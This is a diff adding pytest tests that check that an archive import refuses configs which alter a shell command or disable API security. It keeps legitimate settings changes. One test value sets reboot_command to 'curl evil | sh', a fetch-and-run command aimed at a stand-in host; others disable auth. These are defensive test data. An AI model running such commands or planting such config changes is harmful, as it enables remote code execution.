@@ -50,6 +50,30 @@ def test_unsafe_archives_are_refused_and_nothing_is_written(tmp_path, dot, entri
     assert not (tmp_path / "evil").exists()
 
 
+@pytest.mark.parametrize("name, text, key", [
+    ("config.ini", "[system]\nreboot_command = curl evil | sh\n", "[system] reboot_command"),
+    ("unit_config.ini", "[system]\ncommands_enabled = 1\n", "[system] commands_enabled"),
+    ("config.ini", "[api]\nauth = off\n", "[api] auth"),
+])
+def test_an_archive_whose_config_changes_a_shell_command_or_the_api_security_is_refused(tmp_path, dot, name, text,
+                                                                                         key):
+    (dot / "storage" / "keep.txt").write_text("here")
+    archive = make_zip(tmp_path / "a.zip", [(name, text.encode()), ("storage/keep.txt", b"replaced")])
+    before = sorted(p.name for p in tmp_path.iterdir())
+    with pytest.raises(UnsafeArchive, match=key.replace("[", r"\[").replace("]", r"\]")):
+        import_archive(archive, dot, max_bytes=10**6)
+    assert (dot / "config.ini").read_text() == "[old]\n" and (dot / "storage" / "keep.txt").read_text() == "here"
+    assert sorted(p.name for p in tmp_path.iterdir()) == before  # the staging folder is gone too
+
+
+def test_an_archive_that_keeps_the_protected_settings_is_imported(tmp_path, dot):
+    (dot / "config.ini").write_text("[system]\nreboot_command = sudo reboot\n[stirring.config]\ntarget_rpm = 400\n")
+    archive = make_zip(tmp_path / "a.zip", [("config.ini", b"[system]\nreboot_command = sudo reboot\n"
+                                                          b"[stirring.config]\ntarget_rpm = 600\n")])
+    import_archive(archive, dot, max_bytes=10**6)
+    assert "target_rpm = 600" in (dot / "config.ini").read_text()
+
+
 def test_oversize_and_non_zip_archives_are_refused(tmp_path):
     big = make_zip(tmp_path / "big.zip", [("a", b"0" * 5000)])
     with pytest.raises(UnsafeArchive, match="MB once extracted"):
